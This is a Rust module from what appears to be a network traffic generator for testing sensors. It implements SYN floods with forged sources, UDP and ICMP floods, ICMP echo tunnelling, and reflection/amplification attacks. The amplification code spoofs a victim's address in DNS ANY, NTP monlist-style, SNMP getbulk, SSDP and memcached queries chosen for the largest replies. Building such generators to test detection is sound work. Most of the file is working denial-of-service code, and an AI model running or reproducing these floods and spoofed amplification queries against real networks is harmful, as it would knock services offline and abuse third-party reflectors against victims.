//! Floods and amplification.

use super::account::{Net, Protocol, now_ns};
use super::actor::Actor;
use super::{Kind, Parameter, parameter};
use crate::serve::TUNNEL_MARK;
use crate::traffic::flood::{self, FORGED, FORGED_PREFIX_LEN};
use crate::traffic::{MAX_COUNT, MAX_RATE, TrafficError, dns, permit_pair};
use std::net::{IpAddr, SocketAddr, SocketAddrV4};
use wire::craft;

const SIZE: Parameter = Parameter::new("size", Kind::Number(0, 1400), "payload bytes").or("64");
const RATE: Parameter = parameter::rate(MAX_RATE as u64, "2000");

pub(super) const SYN: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::port("80"),
    Parameter::new("forged", Kind::Choice(&["no", "yes"]), "whether each packet has another source (IPv4)")
        .or("no"),
    parameter::count(MAX_COUNT, "20000", "packets"),
    RATE,
    parameter::seconds("10"),
];

pub(super) const UDP: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::port("9999"),
    SIZE,
    parameter::count(MAX_COUNT, "50000", "packets"),
    Parameter { default: Some("5000"), ..RATE },
    parameter::seconds("10"),
];

pub(super) const ICMP: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    SIZE,
    parameter::count(MAX_COUNT, "20000", "packets"),
    RATE,
    parameter::seconds("10"),
];

pub(super) const AMPLIFICATION: &[Parameter] = &[
    Parameter::new("victim", Kind::Address, "whose address the questions carry"),
    Parameter::new("targets", Kind::Addresses, "services that answer"),
    Parameter::new("service", Kind::Choice(&["dns", "ntp", "snmp", "ssdp", "memcached"]), "which service")
        .or("dns"),
    Parameter::new("port", Kind::Number(0, 65_535), "port of the targets; 0 for the service's own").or("0"),
    parameter::count(200_000, "5000", "questions"),
    parameter::rate(10_000, "500"),
    parameter::seconds("10"),
];

/// Notes what was sent since `start_ns` as one row.
fn note(actor: &Actor<'_>, protocol: Protocol, source: Net, target: SocketAddr, start_ns: u64, sent: u64) {
    actor.account().tried(sent);
    if sent > 0 {
        actor.account().note(protocol, (source, 0), (target.ip().into(), target.port()), start_ns, sent);
    }
}

pub(super) fn syn(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let (source, target) = (actor.source(), actor.target());
    let (limits, control, start) = (actor.limits()?, actor.control(), now_ns());
    if actor.values.word("forged") == "yes" {
        let SocketAddr::V4(to) = target else {
            return Err(TrafficError::Versions(FORGED.into(), target.ip()));
        };
        let sent = flood::forged_syn_flood(SocketAddrV4::new(*to.ip(), to.port()), 0, limits, control)?;
        let forged = Net { addr: FORGED.into(), len: FORGED_PREFIX_LEN };
        note(actor, Protocol::Tcp, forged, target, start, sent);
    } else {
        let sent = flood::syn_flood(source, target, limits, control)?;
        note(actor, Protocol::Tcp, source.into(), target, start, sent);
    }
    Ok(())
}

pub(super) fn udp(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let (source, target, start) = (actor.source(), actor.target(), now_ns());
    let size = actor.values.size("size");
    let sent = flood::udp_flood(source, target, size, actor.limits()?, actor.control())?;
    note(actor, Protocol::Udp, source.into(), target, start, sent);
    Ok(())
}

/// Also the ordinary ping, with other numbers.
pub(super) fn icmp(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let (source, target, start) = (actor.source(), actor.values.addr("target"), now_ns());
    let size = actor.values.size("size");
    let sent = flood::icmp_flood(source, target, size, actor.limits()?, actor.control())?;
    let protocol = if target.is_ipv4() { Protocol::Icmp } else { Protocol::Icmpv6 };
    note(actor, protocol, source.into(), SocketAddr::new(target, 0), start, sent);
    Ok(())
}

pub(super) const TUNNEL: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::count(5000, "200", "echo requests"),
    parameter::rate(200, "20"),
    parameter::seconds("15"),
    parameter::SEED,
];

/// Data of many lengths in echo requests, IPv4; the other end answers with data of its own.
pub(super) fn tunnel(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let (source, target, start) = (actor.source(), actor.values.addr("target"), now_ns());
    permit_pair(source, target)?;
    let mut chance = actor.chance(0);
    let sent = flood::transmit(source.is_ipv4(), actor.limits()?, actor.control(), |n| {
        let len = usize::try_from(chance.pick(20..900)).unwrap_or(20);
        let data = [TUNNEL_MARK, &chance.bytes(len)].concat();
        let id = u16::try_from(n & 0xffff).unwrap_or(0);
        (target, craft::icmp_echo(source.into(), target.into(), true, 0x7475, id, &data))
    })?;
    let protocol = if target.is_ipv4() { Protocol::Icmp } else { Protocol::Icmpv6 };
    note(actor, protocol, source.into(), SocketAddr::new(target, 0), start, sent);
    Ok(())
}

/// The question with the largest answer of a service, and the service's port.
fn question(service: &str, n: u64) -> (Vec<u8>, u16) {
    let id = u16::try_from(n & 0xffff).unwrap_or(0);
    match service {
        "ntp" => (vec![0x17, 0, 3, 42, 0, 0, 0, 0], 123),
        // A bulk request of version 2c for fifty rows of the system group.
        "snmp" => {
            let [a, b] = id.to_be_bytes();
            let mut ask = vec![0x30, 0x27, 2, 1, 1, 4, 6];
            ask.extend(b"public");
            ask.extend([0xa5, 0x1a, 2, 4, 0, 0, a, b, 2, 1, 0, 2, 1, 50, 0x30, 0x0c, 0x30, 0x0a]);
            ask.extend([6, 6, 0x2b, 6, 1, 2, 1, 1, 5, 0]);
            (ask, 161)
        }
        "ssdp" => {
            let text = "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n\
                 ST: ssdp:all\r\n\r\n";
            (text.into(), 1900)
        }
        "memcached" => {
            let [a, b] = id.to_be_bytes();
            ([&[a, b, 0, 0, 0, 1, 0, 0][..], b"get a\r\n"].concat(), 11_211)
        }
        _ => (dns::question(id, "large.example", dns::kind::ANY, Some(4096)), 53),
    }
}

/// Questions with the victim's address as their source, to each target in turn.
pub(super) fn amplification(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let victim = actor.values.addr("victim");
    let targets: Vec<IpAddr> = actor.values.addrs("targets").to_vec();
    if let Some(other) = targets.iter().find(|t| t.is_ipv4() != victim.is_ipv4()) {
        return Err(TrafficError::Versions(victim, *other));
    }
    let service = actor.values.word("service");
    let port = match actor.values.port("port") {
        0 => question(service, 0).1,
        port => port,
    };
    let start = now_ns();
    let sent = flood::transmit(victim.is_ipv4(), actor.limits()?, actor.control(), |n| {
        let target = targets[usize::try_from(n).unwrap_or(0) % targets.len().max(1)];
        let from = (victim.into(), flood::source_port(n / 16));
        (target, craft::udp(from, (target.into(), port), &question(service, n).0))
    })?;
    let share = sent / targets.len().max(1) as u64;
    for target in targets {
        // A sensor near the services sees questions of the victim's; one near the victim sees answers alone.
        note(actor, Protocol::Udp, victim.into(), SocketAddr::new(target, port), start, share);
        actor.account().note(Protocol::Udp, (target.into(), port), (victim.into(), 0), start, share);
    }
    Ok(())
}
